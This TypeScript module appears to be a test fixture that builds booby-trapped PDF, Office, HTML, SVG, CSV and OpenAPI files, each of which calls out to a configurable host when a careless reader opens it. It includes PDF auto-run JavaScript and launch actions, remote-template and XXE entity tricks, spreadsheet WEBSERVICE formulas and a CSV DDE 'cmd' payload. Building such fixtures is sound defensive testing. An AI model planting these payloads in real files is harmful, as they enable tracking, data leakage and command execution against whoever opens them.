// Documents that ask for something from elsewhere as soon as a careless reader opens them; each address says which document and which way.
import { docxOf, pptxOf, slideShape, wordParagraph, xlsxOf } from "./office-files.ts";
import { hostileAnswer } from "./hostile-answer.ts";
import { mark } from "./hostile-texts.ts";
import { pdfOf } from "./written-pdf.ts";

export interface HostileDocument {
  readonly name: string;
  readonly bytes: Buffer;
}

const rels = (targets: readonly (readonly [type: string, target: string])[]): string =>
  `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${targets
    .map(
      ([type, target], at) =>
        `<Relationship Id="rIdX${at}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="External"/>`,
    )
    .join("")}</Relationships>`;

function pdf(host: string): Buffer {
  const at = (way: string) => `${host}/pdf-${way}`;
  const annotation = (kind: string, action: string) =>
    `<< /Type /Annot /Subtype /${kind} /Rect [0 0 500 500] /T (f) /FT /Btn /A ${action} /AA << /E ${action} /PO ${action} /PV ${action} >> >>`;
  const script = `<< /S /JavaScript /JS (app.launchURL("${at("script")}"); this.submitForm("${at("submit")}"); app.alert(1)) >>`;
  const actions = [
    script,
    `<< /S /URI /URI (${at("uri")}) >>`,
    `<< /S /Launch /F (${at("launch")}) >>`,
    `<< /S /GoToR /F << /FS /URL /F (${at("remote")}) >> /D [0 /Fit] >>`,
    `<< /S /SubmitForm /F << /FS /URL /F (${at("form")}) >> >>`,
    `<< /S /ImportData /F << /FS /URL /F (${at("import")}) >> >>`,
  ];
  const content =
    "BT /F1 12 Tf 50 700 Td (The moon turns round the earth in 27 days.) Tj ET q 100 0 0 100 0 0 cm /Im1 Do Q";
  const external = (way: string) => `/F << /FS /URL /F (${at(way)}) >>`;
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script} /AA << /WC ${script} >> /Names << /JavaScript << /Names [(a) ${script}] >> >> /URI << /Base (${host}/) >> >>`,
    "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O ${script} >> /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> /XObject << /Im1 6 0 R >> >> /Annots [${actions.map((action) => `${annotation("Link", action)} ${annotation("Widget", action)}`).join(" ")}] >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    `<< /Type /Font /Subtype /TrueType /BaseFont /Remote /FontDescriptor << /Type /FontDescriptor /FontName /Remote /Flags 32 /FontFile2 7 0 R >> >>`,
    `<< /Type /XObject /Subtype /Image /Width 1 /Height 1 /BitsPerComponent 8 /ColorSpace /DeviceGray /Length 0 ${external("image")} >>\nstream\n\nendstream`,
    `<< /Length 0 ${external("font")} >>\nstream\n\nendstream`,
  ]);
}

function docx(host: string): Buffer {
  const at = (way: string) => `${host}/docx-${way}`;
  const picture = `<w:p><w:r><w:drawing><wp:inline xmlns:wp="wp"><a:graphic xmlns:a="a"><a:graphicData><pic:pic xmlns:pic="pic"><pic:blipFill><a:blip xmlns:r="r" r:link="rIdX0" r:embed="rIdX0"/></pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>`;
  const field = `<w:p><w:fldSimple w:instr="INCLUDEPICTURE ${at("field")} \\d"><w:r><w:t>field</w:t></w:r></w:fldSimple></w:p>`;
  const body = `${wordParagraph("The moon turns round the earth.")}${picture}${field}<w:altChunk xmlns:r="r" r:id="rIdX2"/>`;
  return docxOf(body, {
    "word/_rels/document.xml.rels": rels([
      ["image", at("image.png")],
      ["hyperlink", at("link")],
      ["aFChunk", at("chunk")],
      ["subDocument", at("part")],
      ["frame", at("frame")],
    ]),
    "word/_rels/settings.xml.rels": rels([["attachedTemplate", at("template.dotm")]]),
    "word/settings.xml": '<w:settings xmlns:w="w" xmlns:r="r"><w:attachedTemplate r:id="rIdX0"/></w:settings>',
  });
}

const pptx = (host: string): Buffer =>
  pptxOf([{ shapes: slideShape("The moon"), notes: `See ${host}/pptx-note` }], {
    "ppt/slides/_rels/slide1.xml.rels": rels([
      ["image", `${host}/pptx-image.png`],
      ["video", `${host}/pptx-video.mp4`],
      ["oleObject", `${host}/pptx-object`],
    ]),
  });

const xlsx = (host: string): Buffer =>
  xlsxOf(
    {
      Moons: [
        ["Name", "=WEBSERVICE(&quot;x&quot;)"],
        [`=IMAGE(&quot;${host}/xlsx-cell.png&quot;)`, 1],
      ],
    },
    {
      "xl/externalLinks/externalLink1.xml": '<externalLink xmlns:r="r"><externalBook r:id="rIdX0"/></externalLink>',
      "xl/externalLinks/_rels/externalLink1.xml.rels": rels([["externalLinkPath", `${host}/xlsx-book.xlsx`]]),
      "xl/worksheets/_rels/sheet1.xml.rels": rels([
        ["hyperlink", `${host}/xlsx-link`],
        ["image", `${host}/xlsx-image.png`],
      ]),
      "xl/connections.xml": `<connections><connection id="1" type="4" refreshOnLoad="1"><webPr url="${host}/xlsx-connection"/></connection></connections>`,
    },
  );

const html = (host: string): string =>
  `<!doctype html><html><head><base href="${host}/html-base/"><meta http-equiv="refresh" content="0;url=${host}/html-refresh"><link rel="stylesheet" href="${host}/html-style.css"><link rel="prefetch" href="${host}/html-prefetch"><link rel="preload" as="image" href="${host}/html-preload.png"><script src="${host}/html-script.js"></script><style>@import url(${host}/html-import.css);body{background:url(${host}/html-background.png)}</style></head><body onload="${mark}"><h1>The moon</h1><p>It turns round the earth.</p><img src="${host}/html-image.png" srcset="${host}/html-set.png 2x" onerror="${mark}"><iframe src="${host}/html-frame"></iframe><object data="${host}/html-object"></object><video poster="${host}/html-poster.png" src="${host}/html-video.mp4" autoplay></video><table background="${host}/html-table.png"><tr><td>cell</table><form action="${host}/html-form"><input autofocus onfocus="${mark}"></form></body></html>`;

const entities = (host: string): string =>
  `<?xml-stylesheet href="${host}/svg-sheet.css" type="text/css"?><!DOCTYPE svg [<!ENTITY x SYSTEM "${host}/svg-entity"><!ENTITY % y SYSTEM "${host}/svg-parameter"> %y;]>`;

/** `head` stands before its element. */
export const hostileSvg = (host: string, head = ""): string =>
  `<?xml version="1.0"?>${head}<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="100" height="100" onload="${mark}"><style>@import url(${host}/svg-import.css); rect{fill:url(${host}/svg-fill#a)}</style><script href="${host}/svg-script.js">${mark}</script><image href="${host}/svg-image.png" width="9" height="9"/><image xlink:href="${host}/svg-xlink.png" width="9" height="9"/><use href="${host}/svg-use.svg#a"/><foreignObject width="9" height="9"><img xmlns="http://www.w3.org/1999/xhtml" src="${host}/svg-foreign.png"/></foreignObject><a xlink:href="javascript:${mark}"><rect width="50" height="50"/></a><text x="5" y="60">The moon</text></svg>`;

const openApi = (host: string): string =>
  JSON.stringify({
    openapi: "3.1.0",
    info: { title: "Moons", version: "1", termsOfService: `${host}/api-terms` },
    servers: [{ url: `${host}/api-server` }],
    externalDocs: { url: `${host}/api-docs` },
    paths: {
      "/moons": {
        get: {
          operationId: "listMoons",
          responses: {
            "200": {
              description: "ok",
              content: { "application/json": { schema: { $ref: `${host}/api-schema.json` } } },
            },
          },
        },
        post: { $ref: `${host}/api-path.json` },
      },
    },
  });

const csv = (host: string): string =>
  `name,moons\n"=WEBSERVICE(""${host}/csv-service"")",1\n"=HYPERLINK(""${host}/csv-link"")",2\n+cmd|' /C calc'!A0,3\n@SUM(1),4\n<img src=${host}/csv-image.png onerror=${mark}>,5\n`;

/** One of each kind. */
export const hostileDocuments = (host: string): readonly HostileDocument[] =>
  (
    [
      ["hostile.pdf", pdf(host)],
      ["hostile.docx", docx(host)],
      ["hostile.pptx", pptx(host)],
      ["hostile.xlsx", xlsx(host)],
      ["hostile.html", html(host)],
      ["hostile.svg", hostileSvg(host, entities(host))],
      ["hostile.md", hostileAnswer(host)],
      ["hostile.csv", csv(host)],
      ["hostile.json", openApi(host)],
    ] as const
  ).map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) }));
